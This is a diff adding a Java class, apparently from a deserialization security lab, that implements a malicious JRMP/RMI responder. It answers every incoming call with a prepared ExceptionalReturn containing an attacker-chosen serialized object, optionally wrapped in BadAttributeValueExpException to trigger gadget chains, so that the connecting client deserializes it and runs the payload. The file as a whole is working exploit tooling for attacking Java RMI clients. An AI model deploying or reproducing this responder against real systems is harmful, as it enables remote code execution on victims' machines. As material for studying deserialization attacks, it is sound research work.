@@ -0,0 +1,141 @@
+package org.su18.serialize.rmi.jrmp;
+
+import org.su18.serialize.lab.AsyncLog;
+import sun.rmi.transport.TransportConstants;
+
+import javax.management.BadAttributeValueExpException;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.ObjectOutputStream;
+import java.io.OutputStream;
+import java.lang.reflect.Field;
+import java.net.URL;
+import java.rmi.server.UID;
+import java.util.Arrays;
+import java.util.concurrent.atomic.AtomicLong;
+
+/**
+ * 对所有 Call 返回同一个 ExceptionalReturn 的 Responder，客户端反序列化返回值时触发 payload
+ * 返回值只在设置 payload 时序列化一次，见 PreparedReturn
+ * <p>
+ * 返回值的构造方式由 Wrapper 决定：RAW 直接返回 payload，BAD_ATTRIBUTE_VALUE 把 payload 放入
+ * BadAttributeValueExpException 的 val 字段中
+ *
+ * @author su18
+ */
+public class ReturnResponder implements Responder {
+
+	/**
+	 * 根据 payload 构造 ExceptionalReturn 中写出的对象
+	 */
+	public interface Wrapper {
+
+		Object wrap(Object payload) throws Exception;
+	}
+
+	public static final Wrapper RAW = new Wrapper() {
+		@Override
+		public Object wrap(Object payload) {
+			return payload;
+		}
+	};
+
+	public static final Wrapper BAD_ATTRIBUTE_VALUE = new Wrapper() {
+		@Override
+		public Object wrap(Object payload) throws Exception {
+			BadAttributeValueExpException ex    = new BadAttributeValueExpException(null);
+			Field                         field = BadAttributeValueExpException.class.getDeclaredField("val");
+			field.setAccessible(true);
+			field.set(ex, payload);
+			return ex;
+		}
+	};
+
+	private final Wrapper wrapper;
+
+	private final URL codebase;
+
+	private final AsyncLog log = AsyncLog.getDefault();
+
+	private final Object waitLock = new Object();
+
+	private final AtomicLong calls = new AtomicLong();
+
+	private volatile Object payload;
+
+	private volatile PreparedReturn prepared;
+
+
+	public ReturnResponder(Object payload, Wrapper wrapper, URL codebase) throws IOException {
+		this.wrapper = wrapper;
+		this.codebase = codebase;
+		setPayload(payload);
+	}
+
+	/**
+	 * 更换 payload，重新编码缓存的返回数据
+	 *
+	 * @param payload payload
+	 * @throws IOException 序列化失败
+	 */
+	public void setPayload(Object payload) throws IOException {
+		ByteArrayOutputStream bos = new ByteArrayOutputStream();
+		ObjectOutputStream    oos = new MarshalOutputStream(bos, codebase);
+
+		oos.writeByte(TransportConstants.ExceptionalReturn);
+		new UID().write(oos);
+
+		try {
+			oos.writeObject(wrapper.wrap(payload));
+		} catch (IOException e) {
+			throw e;
+		} catch (Exception e) {
+			throw new IOException(e);
+		}
+		oos.flush();
+
+		this.prepared = new PreparedReturn(bos.toByteArray());
+		this.payload = payload;
+	}
+
+	public Object getPayload() {
+		return payload;
+	}
+
+	public long getCalls() {
+		return calls.get();
+	}
+
+	@Override
+	public void respond(JRMPCall call, OutputStream out) throws IOException {
+		if (log.isEnabled()) {
+			log.log("call", "remote", call.getRemote(), "objID", call.getObjID(),
+					"dgc", call.isDGC() ? Arrays.toString(call.getDgcIds()) : null, "return", prepared.size());
+		}
+
+		prepared.writeTo(out);
+
+		// 只有第一个 Call 需要唤醒等待线程，之后不再进入同步块
+		if (calls.getAndIncrement() == 0) {
+			synchronized (this.waitLock) {
+				this.waitLock.notifyAll();
+			}
+		}
+	}
+
+	/**
+	 * 等待第一个 Call
+	 *
+	 * @param timeout 超时时间（毫秒）
+	 * @return 是否收到过 Call
+	 * @throws InterruptedException 中断异常
+	 */
+	public boolean waitFor(long timeout) throws InterruptedException {
+		synchronized (this.waitLock) {
+			if (calls.get() == 0) {
+				this.waitLock.wait(timeout);
+			}
+			return calls.get() > 0;
+		}
+	}
+}